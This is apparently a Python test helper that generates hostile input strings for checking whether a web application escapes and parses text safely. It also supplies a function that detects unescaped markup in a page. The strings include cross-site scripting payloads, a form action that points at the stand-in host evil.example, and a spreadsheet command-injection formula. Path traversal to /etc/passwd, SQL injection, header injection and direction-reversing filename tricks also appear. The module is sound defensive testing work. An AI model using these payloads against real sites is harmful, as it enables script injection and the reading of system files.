"""Hostile texts: markup, formulas, characters that hide or turn text, and what no parser expects."""

from __future__ import annotations

import random
from typing import Final

MARK: Final = "hostile"  # the function that the markup calls
# Markup that calls hostile() if a page does not escape it, in the places where a text can be.
MARKUP: Final = (
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg onload={MARK}()>',
    f"'><svg/onload={MARK}()>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f'" autofocus onfocus="{MARK}()',
    f"' onmouseover='{MARK}()",
    f"javascript:{MARK}()",
    f"--><script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>",
    f"<a href=javascript:{MARK}()>click</a>",
    f"<iframe srcdoc='<script>parent.{MARK}()</script>'>",
    f"<style>@import'data:,*{{background:url(//x/{MARK})}}'</style>",
    f"<base href=//evil.example/><form action=//evil.example/{MARK}>",
    f"{{{{ {MARK}|safe }}}}{{% include 'admin/base.html' %}}${{{MARK}()}}",
)
FORMULAS: Final = ("=1+2", "+cmd|' /C calc'!A1", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1")
STRANGE: Final = (
    "",
    " ",
    "\u202egnp.exe",
    "\u2066a\u2069\u200b\u200d\ufeff",
    "e\u0301" * 60,
    "\x00",
    "a\x00b",
    "\x1b[31m\x07\x7f",
    "\r\nSet-Cookie: a=b",
    "\ud800",
    "\U0010ffff",
    "😀" * 5,
    "x" * 300,
    "x" * 5000,
    "-1",
    "9" * 40,
    "1e999",
    "NaN",
    "true",
    "null",
    "[]",
    '{"a": {"b": []}}',
    "2026-13-45",
    "9999-12-31",
    "../../../etc/passwd",
    "%00%ff%c0%80",
    "%",
    "_%\\'\"",
    "' OR 1=1 --",
    "a" + "," * 200,
    "\\x",
    "//evil.example/",
    "http://[::1",
    "file:///etc/passwd",
    "00000000-0000-0000-0000-000000000000",
    "q=1&q=2;view=nosuch",
)
TEXTS: Final = (*MARKUP, *FORMULAS, *STRANGE)


def texts(count: int, seed: int = 1) -> list[str]:
    """Return hostile texts: first each of TEXTS, then mixtures of them, the same for the same seed."""
    chosen = random.Random(seed)
    mixed = (
        chosen.choice(("", " ", "\u202e", "x" * 200, "'\">"))
        + chosen.choice(TEXTS)
        + chosen.choice(TEXTS)
        for _ in range(max(0, count - len(TEXTS)))
    )
    return [*TEXTS, *mixed][:count]


def unescaped(page: str) -> list[str]:
    """Return the markup of the texts that a page has as markup."""
    return [text for text in MARKUP if "<" in text and text in page]
